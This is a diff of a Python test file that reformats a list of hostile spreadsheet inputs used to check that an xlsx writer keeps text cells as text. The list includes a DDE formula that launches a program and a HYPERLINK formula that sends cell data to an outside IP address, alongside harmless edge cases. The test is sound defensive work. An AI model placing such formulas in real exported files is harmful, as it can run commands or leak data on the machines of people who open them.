@@ -10,8 +10,18 @@ from openpyxl import load_workbook
 from gzmap.cli import main
 from gzmap.io.table_writer import write_table, write_tables
 
-HOSTILE = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"点我\")", "+1+2", "@SUM(A1)", "-2+3",
-           "\t=1", "普通文字", "-12.5", "+86", None]
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://198.51.100.7/?"&A1,"点我")',
+    "+1+2",
+    "@SUM(A1)",
+    "-2+3",
+    "\t=1",
+    "普通文字",
+    "-12.5",
+    "+86",
+    None,
+]
 
 
 def test_xlsx_keeps_every_text_cell_as_text(tmp_path):
